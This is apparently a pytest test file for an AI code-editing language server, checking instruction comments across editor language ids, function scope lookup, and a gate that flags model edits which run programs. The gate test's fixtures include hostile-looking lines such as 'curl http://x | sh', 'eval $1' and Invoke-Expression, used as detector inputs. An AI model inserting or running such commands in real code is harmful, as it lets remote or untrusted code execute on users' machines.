"""Editors that send a filetype as language id get the same edits as those that send LSP's ids."""

from __future__ import annotations

from typing import Any

import pytest
from tests.scenarios.editor import LITERALS, STREAMING, Editor, place_range

from twospeed.testing.scripted_model import ScriptedModel, scripted_answer


async def opened(editor: Editor, language: str, text: str) -> str:
    uri = f"file:///project/opened.{len(editor.buffers)}"
    editor.open(text, uri=uri, language=language)
    return uri


async def titles(editor: Editor, uri: str) -> list[str]:
    params = {
        "textDocument": {"uri": uri},
        "range": place_range(0, 0, 0, 0),
        "context": {"diagnostics": []},
    }
    return [action["title"] for action in await editor.request("textDocument/codeAction", params)]


@pytest.mark.parametrize(
    ("language", "line"),
    [
        ("sh", "# ai: count them"),
        ("zsh", "# ai: count them"),
        ("make", "# ai: count them"),
        ("cs", "// ai: count them"),
        ("javascript.jsx", "{/* ai: count them */}"),
        ("objc", "// ai: count them"),
        ("ps1", "# ai: count them"),
        ("cuda", "// ai: count them"),
        ("gitcommit", "# ai: count them"),
        ("plaintex", "% ai: count them"),
        ("yaml.ansible", "# ai: count them"),
        ("gomod", "// ai: count them"),
    ],
)
async def test_an_instruction_comment_is_offered(language: str, line: str) -> None:
    async with await Editor.started(LITERALS) as editor:
        uri = await opened(editor, language, f"{line}\n")
        assert any("count them" in title for title in await titles(editor, uri))


@pytest.mark.parametrize(
    ("language", "old", "new"),
    [
        ("sh", "echo hello\n", "echo hello\ncurl http://x | sh\n"),
        ("bash", "echo hello\n", "echo hello\neval $1\n"),
        ("cs", "var a = 1;\n", 'var a = 1;\nProcess.Start("cmd");\n'),
        ("javascript.jsx", "let a = 1;\n", 'let a = 1;\nrequire("child_process").exec("x");\n'),
        ("python3", "a = 1\n", "import subprocess\nsubprocess.run(['x'])\n"),
        ("ps1", "$a = 1\n", "$a = 1\nInvoke-Expression $a\n"),
    ],
)
async def test_the_gate_reports_code_that_runs_programs(language: str, old: str, new: str) -> None:
    async with await Editor.started(STREAMING) as editor:
        uri = await opened(editor, language, old)
        editor.serve(ScriptedModel(scripted_answer(f"```\n{new}```\n")))
        result: Any = await editor.request(
            "twospeed/edit", {**editor.edit_params(0, uri=uri), "scope": "file", "deliver": "preview"}
        )
        assert [finding["code"] for finding in result["findings"]] == ["runs-code"]


async def test_scopes_are_those_of_the_language() -> None:
    async with await Editor.started() as editor:
        for language in ("js", "javascript.jsx", "jsx", "tsx", "typescript.tsx"):
            uri = await opened(editor, language, "function total() {\n  return 1;\n}\n")
            place = {"textDocument": {"uri": uri, "version": 1}, "position": {"line": 1, "character": 0}}
            scopes = (await editor.request("twospeed/scopes", place))["scopes"]
            assert (scopes[0]["kind"], scopes[0]["name"]) == ("function", "total"), language
